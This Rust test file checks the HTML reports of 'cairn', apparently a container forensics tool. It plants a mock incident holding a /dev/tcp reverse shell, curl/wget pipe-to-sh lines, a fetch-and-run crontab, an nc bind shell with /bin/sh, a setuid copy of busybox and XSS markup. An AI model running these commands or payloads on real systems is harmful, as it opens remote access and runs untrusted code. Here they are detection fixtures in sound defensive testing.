//! `cairn report` over collections of busybox pods with a planted incident: a running
//! executable deleted from disk, a listener, reverse-shell lines in a shell history, and
//! markup planted where the target controls text (a process's command line, history
//! lines, a history file's name). The pages are opened in real headless Chromium
//! (Debian `chromium`): the DOM it builds shows each finding linked to its evidence, no
//! element the target wrote, and an unchanged title (nothing ran). A set-id file added
//! in a container collected by the node route is a drift finding. A screenshot of each
//! page is kept in `target/report-screenshots/`.

use super::*;
use std::os::unix::fs::PermissionsExt;

/// Markup a hostile target writes where text is expected.
const MARKUP: &str =
    "\"><img src=x onerror=document.title='pwned'><script>document.title='pwned'</script>";

fn chromium() -> Option<PathBuf> {
    ["chromium", "chromium-browser"]
        .iter()
        .map(|c| {
            Command::new("sh")
                .arg("-c")
                .arg(format!("command -v {c}"))
                .output()
        })
        .filter_map(Result::ok)
        .find(|o| o.status.success())
        .map(|o| PathBuf::from(text(&o.stdout).trim()))
        .or_else(|| {
            docker::require("chromium (Debian chromium)");
            None
        })
}

/// The DOM Chromium builds for `page`, and a screenshot of it.
/// The permission bits of `p`.
fn mode(p: &Path) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(p).unwrap().permissions()) & 0o7777
}

fn render(chromium: &Path, page: &Path, shot: &str) -> String {
    let url = format!("file://{}", page.display());
    let base = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
    ];
    let o = Command::new(chromium)
        .args(base)
        .arg("--dump-dom")
        .arg(&url)
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&o);
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/report-screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    let s = Command::new(chromium)
        .args(base)
        .arg(format!("--screenshot={}", dir.join(shot).display()))
        .arg("--window-size=1400,1800")
        .arg(&url)
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&s);
    text(&o.stdout)
}

/// A busybox pod with the incident planted.
fn incident(ns: &str, name: &str) -> Container {
    let c = pod(ns, name, docker::busybox_image(), &[]);
    docker::ok(&[
        "exec",
        &c.0,
        "sh",
        "-c",
        &format!(
            "mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep \
             && printf '%s\\n' 'ls' 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' \
                'curl -fsSL http://198.51.100.7/x.sh | sh' '{m}' > /root/.ash_history \
             && echo 'wget -qO- http://x/{m} | sh' > '/root/.{n}_history'",
            m = MARKUP.replace('\'', "'\\''"),
            n = "<img src=x onerror=alert(1)>"
        ),
    ]);
    docker::ok(&["exec", "-d", &c.0, "/tmp/.x/sleep", "3600"]);
    docker::ok(&["exec", "-d", &c.0, "nc", "-l", "-p", "4444"]);
    // A crontab that fetches and runs, and a bind shell with a client connected: nc
    // hands the connection to sh, which then holds the socket.
    docker::ok(&[
        "exec",
        &c.0,
        "sh",
        "-c",
        "mkdir -p /etc/crontabs && echo '*/5 * * * * wget -qO- http://198.51.100.7/cron | sh' > /etc/crontabs/root",
    ]);
    docker::ok(&[
        "exec", "-d", &c.0, "nc", "-l", "-p", "5555", "-e", "/bin/sh",
    ]);
    std::thread::sleep(std::time::Duration::from_millis(200));
    docker::ok(&[
        "exec",
        "-d",
        &c.0,
        "sh",
        "-c",
        "sleep 3600 | nc 127.0.0.1 5555",
    ]);
    docker::ok(&[
        "exec",
        "-d",
        &c.0,
        "sh",
        "-c",
        &format!("sleep 3600; echo '{}'", MARKUP.replace('\'', "")),
    ]);
    std::thread::sleep(std::time::Duration::from_millis(300));
    docker::ok(&["exec", &c.0, "rm", "/tmp/.x/sleep"]);
    c
}

#[test]
fn a_report_shows_each_finding_linked_to_its_evidence_and_runs_nothing_the_target_wrote() {
    let Some(_) = docker::setup() else { return };
    let Some(chromium) = chromium() else { return };
    let ns = format!("rep-{}", std::process::id());
    let _web = incident(&ns, "web");
    let _api = pod(&ns, "api", docker::busybox_image(), &[]);
    let s = ApiServer::start(&[]);
    let out = s.dir.path().join("out");
    let o = cairn(
        &s,
        &[
            "-n",
            &ns,
            "collect",
            "web",
            "api",
            "--output-dir",
            out.to_str().unwrap(),
        ],
    );
    cairn_testkit::env::succeeded(&o);
    let web_archive = std::fs::read_dir(&out)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            let n = p.file_name().unwrap().to_string_lossy().into_owned();
            n.starts_with(&format!("{ns}_web_")) && n.ends_with(".tar.zst") && !n.contains(".k8s.")
        })
        .unwrap();

    // One collection: one page.
    let page = s.dir.path().join("web.html");
    let r = common::env::command(CAIRN)
        .arg("report")
        .arg(&web_archive)
        .arg("--output")
        .arg(&page)
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&r);
    assert_eq!(
        mode(&page),
        0o600,
        "the page holds the target's command lines"
    );
    let dom = render(&chromium, &page, "collection.png");
    // Nothing the target wrote became an element, and nothing ran.
    assert!(dom.contains("<title>cairn report: "), "{dom}");
    assert!(!dom.contains("pwned</title>") && !dom.contains("<title>pwned"));
    assert!(!dom.contains("<img"), "an element from the target");
    assert_eq!(
        dom.matches("<script").count(),
        0,
        "a script in a collection page"
    );
    assert!(
        dom.contains("&lt;img src=x onerror="),
        "the markup is shown as text"
    );
    assert!(
        dom.contains("echo '\"&gt;&lt;img src=x onerror=document.title=pwned&gt;"),
        "the process's command line, as text"
    );
    // Each finding is there, linked to evidence that exists on the page.
    let finding = |rule: &str, needle: &str| -> String {
        let li = dom
            .split("<li ")
            .find(|li| li.contains(&format!("data-rule=\"{rule}\"")) && li.contains(needle))
            .unwrap_or_else(|| panic!("no {rule} finding with {needle}:\n{dom}"));
        let href = li
            .split("href=\"#")
            .nth(1)
            .and_then(|h| h.split('"').next())
            .unwrap_or_else(|| panic!("{rule}: no evidence link"));
        assert!(
            dom.contains(&format!("id=\"{href}\"")),
            "{rule}: {href} not on the page"
        );
        li.to_owned()
    };
    let deleted = finding("deleted-executable", "/tmp/.x/sleep");
    assert!(
        deleted.contains("live_response/processes/executables.jsonl"),
        "{deleted}"
    );
    assert!(
        deleted.contains("from a place anyone may write"),
        "{deleted}"
    );
    finding("listening-socket", "/nc listens on [::]:4444");
    finding("history-command", "/dev/tcp/10.0.0.1/4444");
    finding("history-command", "fetches code and runs it");
    finding(
        "cron-entry",
        "wget -qO- http://198.51.100.7/cron | sh` runs on a schedule",
    );
    finding("shell-socket", "/sh holds a tcp");
    // The evidence table gives each member's sha256, as the manifest has it.
    let manifest = cairn_testkit::archive::Archive::read(&web_archive).manifest();
    let history_sha = manifest
        .iter()
        .find(|m| m["path"] == "files/root/.ash_history")
        .and_then(|m| m["sha256"].as_str())
        .unwrap()
        .to_owned();
    assert!(
        dom.contains(&history_sha),
        "the history's sha256 {history_sha}"
    );
    // The process tree marks the deleted executable, and folds cairn's own processes
    // (the bootstrap's 13,000-character script was a row of its own) into one line.
    assert!(dom.contains("(deleted)"));
    assert!(
        !dom.contains("# cairn bootstrap:"),
        "the bootstrap's script is in the tree"
    );
    assert!(
        dom.contains("cairn's own processes, folded: the bootstrap and the collector ("),
        "{dom}"
    );
    // A long table is folded behind a <details> (no script); the process tree and the
    // sockets are not. The collection's counts are a sentence, not JSON.
    let section = |id: &str| -> String {
        dom.split(&format!("<section id=\"{id}\">"))
            .nth(1)
            .and_then(|s| s.split("</section>").next())
            .unwrap_or_else(|| panic!("no section {id}"))
            .to_owned()
    };
    let mounts = section("mounts");
    let n: usize = mounts
        .split("<h2>Mounts (")
        .nth(1)
        .and_then(|s| s.split(')').next())
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert!(n > 12, "a container has more mounts than that: {mounts}");
    assert!(
        mounts.contains(&format!("<details><summary>show the {n} rows</summary>")),
        "{mounts}"
    );
    assert!(!section("processes").contains("<details>"));
    let record = section("collection");
    assert!(
        record.contains(" files (")
            && record.contains(" read, ")
            && !record.contains("entries_run"),
        "{record}"
    );
    // An existing page is not replaced without --force.
    let again = common::env::command(CAIRN)
        .arg("report")
        .arg(&web_archive)
        .arg("--output")
        .arg(&page)
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(2));

    // The directory: a page per collection and an index, most findings first.
    let dir = s.dir.path().join("pages");
    let r = common::env::command(CAIRN)
        .arg("report")
        .arg(&out)
        .arg("--output")
        .arg(&dir)
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&r);
    assert_eq!(mode(&dir), 0o700);
    assert_eq!(common::assert_private(&dir), 3, "two pages and the index");
    let index = render(&chromium, &dir.join("index.html"), "index.png");
    // The index's own script ran (the CSP allows it by its hash), and nothing else.
    assert!(
        index.contains("data-sortable=\"yes\""),
        "the sorter did not run:\n{index}"
    );
    assert_eq!(index.matches("<script").count(), 1);
    let rows: Vec<&str> = index.split("<tr class=\"row\">").skip(1).collect();
    assert_eq!(rows.len(), 2, "{index}");
    assert!(
        rows[0].contains(&format!("{ns}_web_")),
        "the incident first: {index}"
    );
    assert!(rows[1].contains(&format!("{ns}_api_")));
    for r in &rows {
        let href = r
            .split("href=\"")
            .nth(1)
            .and_then(|h| h.split('"').next())
            .unwrap();
        assert!(dir.join(href).is_file(), "{href}");
    }
    // The pod's Kubernetes evidence fills in its events and permissions.
    let web_page = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with(&format!("{ns}_web_"))
        })
        .unwrap();
    let web_dom = render(&chromium, &web_page, "collection-in-dir.png");
    assert!(
        web_dom.contains("What the service account may do")
            && web_dom.contains("logs/main.log (the last 0 of 0 lines)"),
        "{web_dom}"
    );
}

/// The node route gives drift: a set-id file added in the container is a finding, with
/// its mode from the bodyfile and its record in drift.jsonl as evidence.
#[test]
fn a_set_id_file_added_since_the_image_is_a_finding_from_the_node_route() {
    let Some(bin) = docker::setup() else { return };
    let Some(chromium) = chromium() else { return };
    let img = super::routes::Images::build(&bin, "report-node");
    let ns = img.ns.clone();
    let c = docker::ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--label",
        &format!("io.kubernetes.pod.namespace={ns}"),
        "--label",
        "io.kubernetes.pod.name=bb",
        "--label",
        "io.kubernetes.container.name=main",
        docker::busybox_image(),
        "sleep",
        "3600",
    ]);
    docker::ok(&[
        "exec",
        &c,
        "sh",
        "-c",
        "mkdir -p /usr/local/bin && cp /bin/busybox /usr/local/bin/sx && chmod 4755 /usr/local/bin/sx",
    ]);
    let s = ApiServer::start(&[]);
    let out = s.dir.path().join("out");
    let o = cairn(
        &s,
        &[
            "-n",
            &ns,
            "collect",
            "bb",
            "--via",
            "node",
            "--collector-image",
            &img.collector,
            "--output-dir",
            out.to_str().unwrap(),
        ],
    );
    cairn_testkit::env::succeeded(&o);
    let page = s.dir.path().join("node.html");
    let r = common::env::command(CAIRN)
        .arg("report")
        .arg(&out)
        .arg("--output")
        .arg(&page)
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&r);
    let dom = render(&chromium, &page, "node.png");
    let li = dom
        .split("<li ")
        .find(|li| li.contains("data-rule=\"drift\"") && li.contains("/usr/local/bin/sx"))
        .unwrap_or_else(|| panic!("no drift finding for the set-id file:\n{dom}"));
    assert!(
        li.contains("a set-id file (-rwsr-xr-x) added since the image"),
        "{li}"
    );
    assert!(li.contains("live_response/drift/drift.jsonl"), "{li}");
    assert!(li.contains("class=\"high\""), "{li}");
}

/// A reused output directory holds collections of every kind: the index says which is
/// complete, cut short, failed (the Kubernetes evidence alone) or damaged (cut off
/// mid-archive), each page opens with its status, a damaged input makes `report` exit
/// 1, it writes `report/` by default, and a page name for several collections is
/// refused.
#[test]
fn the_index_says_which_collections_are_complete_cut_short_failed_or_damaged() {
    let Some(chromium) = chromium() else { return };
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/hostname"), "web\n").unwrap();
    std::fs::write(root.join("etc/big"), vec![b'x'; 64 << 10]).unwrap();
    let ev = t.path().join("ev");
    std::fs::create_dir(&ev).unwrap();
    let collector = std::env::var("CAIRN_MUSL_BIN").unwrap();
    let spec = t.path().join("etc.yaml");
    std::fs::write(
        &spec,
        "artifacts:\n  - description: etc\n    collector: file\n    path: /etc\n",
    )
    .unwrap();
    let collect = |name: &str, extra: &[&str]| {
        let out = ev.join(format!("shop_{name}_main_20261207T100000Z.tar.zst"));
        let o = common::env::command(&collector)
            .args(["collect", "--root"])
            .arg(&root)
            .arg("--artifacts")
            .arg(&spec)
            .arg("--output")
            .arg(&out)
            .args(extra)
            .output()
            .unwrap();
        assert!(
            matches!(o.status.code(), Some(0 | 4)),
            "{}",
            text(&o.stderr)
        );
        out
    };
    collect("clean", &[]);
    // A collector without root, denied a file: partial, not complete.
    std::fs::write(root.join("etc/shadow"), "root:*:1::::::\n").unwrap();
    std::fs::set_permissions(root.join("etc/shadow"), PermissionsExt::from_mode(0o600)).unwrap();
    for d in [t.path(), root.as_path()] {
        std::fs::set_permissions(d, PermissionsExt::from_mode(0o755)).unwrap();
    }
    let partial = common::env::command("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            &collector,
        ])
        .args(["collect", "--root"])
        .arg(&root)
        .arg("--artifacts")
        .arg(&spec)
        .args(["--output", "-"])
        .output()
        .unwrap();
    assert_eq!(partial.status.code(), Some(0), "{}", text(&partial.stderr));
    std::fs::write(
        ev.join("shop_partial_main_20261207T100000Z.tar.zst"),
        &partial.stdout,
    )
    .unwrap();
    collect("cut", &["--max-total-size", "1K"]);
    let whole = std::fs::read(collect("broken", &[])).unwrap();
    let broken = ev.join("shop_broken_main_20261207T100000Z.tar.zst");
    std::fs::write(&broken, &whole[..whole.len() / 2]).unwrap();
    // The Kubernetes evidence of a target whose collection failed.
    let k8s = ev.join("shop_failed_main_20261207T100000Z.k8s.tar.zst");
    let mut w =
        cairn_archive::write::ArchiveWriter::new(std::fs::File::create(&k8s).unwrap(), 0).unwrap();
    let pod = br#"{"metadata":{"name":"failed","namespace":"shop"}}"#;
    w.append_bytes(
        b"k8s/pod.json",
        &cairn_archive::write::EntryHeader::default(),
        pod,
    )
    .unwrap();
    std::io::Write::flush(&mut w.finish().unwrap()).unwrap();

    let refused = common::env::command(CAIRN)
        .arg("report")
        .arg(&ev)
        .arg("--output")
        .arg(t.path().join("r4.html"))
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2), "{}", text(&refused.stderr));
    assert!(text(&refused.stderr).contains("give a directory name"));
    assert!(!t.path().join("r4.html").exists());

    let o = common::env::command(CAIRN)
        .arg("report")
        .arg(&ev)
        .current_dir(t.path())
        .output()
        .unwrap();
    let err = text(&o.stderr);
    assert_eq!(
        o.status.code(),
        Some(1),
        "a damaged input is not a clean report: {err}"
    );
    assert!(err.contains("2 collection(s) damaged or failed"), "{err}");
    let index = render(
        &chromium,
        &t.path().join("report/index.html"),
        "index-status.png",
    );
    assert!(
        index.contains("2 collection(s) damaged or failed"),
        "{index}"
    );
    let status_of = |name: &str| -> String {
        let row = index
            .split("<tr class=\"row\">")
            .find(|r| r.contains(&format!("shop_{name}_main_")))
            .unwrap_or_else(|| panic!("no row for {name}: {index}"));
        row.split("<td class=\"status ")
            .nth(1)
            .and_then(|c| c.split('>').nth(1))
            .and_then(|c| c.split('<').next())
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(status_of("clean"), "complete");
    // A tree collected offline belongs to no pod: its target is "-", not "//main".
    let clean_row = index
        .split("<tr class=\"row\">")
        .find(|r| r.contains("shop_clean_main_"))
        .unwrap();
    assert!(
        clean_row.contains("<td>-</td>") && !clean_row.contains("//"),
        "{clean_row}"
    );
    assert_eq!(status_of("cut"), "cut short");
    assert_eq!(status_of("partial"), "partial");
    assert_eq!(status_of("failed"), "failed");
    assert_eq!(status_of("broken"), "damaged");
    let broken_page = render(
        &chromium,
        &t.path()
            .join("report/shop_broken_main_20261207T100000Z.html"),
        "damaged.png",
    );
    assert!(
        broken_page.contains("id=\"status\">DAMAGED: the archive could not be read to its end"),
        "{broken_page}"
    );
    // Said again at the end of the page, beside what was read with problems.
    let footer = broken_page.split("<footer>").nth(1).unwrap_or_default();
    assert!(
        footer.contains("DAMAGED: the archive could not be read to its end"),
        "{broken_page}"
    );
    let clean_page = std::fs::read_to_string(
        t.path()
            .join("report/shop_clean_main_20261207T100000Z.html"),
    )
    .unwrap();
    assert!(
        clean_page.contains("id=\"status\">COMPLETE: complete"),
        "the banner"
    );
}

/// What the responder's YARA rules matched in a process's memory is a high finding,
/// linked to hits.jsonl (the collector run with --yara on a process of this machine).
#[test]
fn a_yara_match_in_a_processs_memory_is_a_high_finding() {
    let collector = std::env::var("CAIRN_MUSL_BIN").unwrap();
    let marker = "CAIRN-REPORT-YARA-5e1d";
    let mut child = Command::new("python3")
        .args([
            "-c",
            &format!("import sys, time\nb = bytearray(b'{marker}')\nprint('ready', flush=True)\ntime.sleep(600)\n"),
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let t = tempfile::tempdir().unwrap();
    let rules = t.path().join("ir.yar");
    std::fs::write(
        &rules,
        format!("rule planted : implant {{ strings: $m = \"{marker}\" condition: $m }}\n"),
    )
    .unwrap();
    let archive = t.path().join("host_python_main_20261207T100000Z.tar.zst");
    let o = common::env::command(&collector)
        .args(["collect", "--artifacts", "memory/*", "--memory-pids"])
        .arg(child.id().to_string())
        .arg("--yara")
        .arg(&rules)
        .arg("--output")
        .arg(&archive)
        .output()
        .unwrap();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let page = t.path().join("page.html");
    let r = common::env::command(CAIRN)
        .arg("report")
        .arg(&archive)
        .arg("--output")
        .arg(&page)
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&r);
    let html = std::fs::read_to_string(&page).unwrap();
    let sentence = format!(
        "YARA rule ir:planted [implant] matched the memory of process {}",
        child.id()
    );
    assert!(html.contains(&sentence), "{html}");
    assert!(html.contains("live_response/yara/hits.jsonl"));
    assert!(
        text(&r.stderr).contains("high ->") && !text(&r.stderr).contains(" 0 high"),
        "{}",
        text(&r.stderr)
    );
    // The hit is an event of the timeline, at the time it was made, with its process.
    let tl = common::env::command(CAIRN)
        .arg("timeline")
        .arg(&archive)
        .args(["--format", "jsonl"])
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&tl);
    let events: Vec<serde_json::Value> = text(&tl.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let hit = events
        .iter()
        .find(|e| e["source"] == "yara")
        .unwrap_or_else(|| panic!("no yara event in {events:?}"));
    assert_eq!(hit["timestamp_desc"], "YARA Match Time");
    assert_eq!(hit["pid"], i64::from(child.id()));
    assert!(
        hit["message"].as_str().unwrap().starts_with(&sentence),
        "{hit}"
    );
    let started = events
        .iter()
        .find(|e| {
            e["message"]
                .as_str()
                .unwrap()
                .starts_with("cairn collection started")
        })
        .unwrap();
    assert!(
        hit["datetime"].as_str() >= started["datetime"].as_str(),
        "{hit} {started}"
    );
}
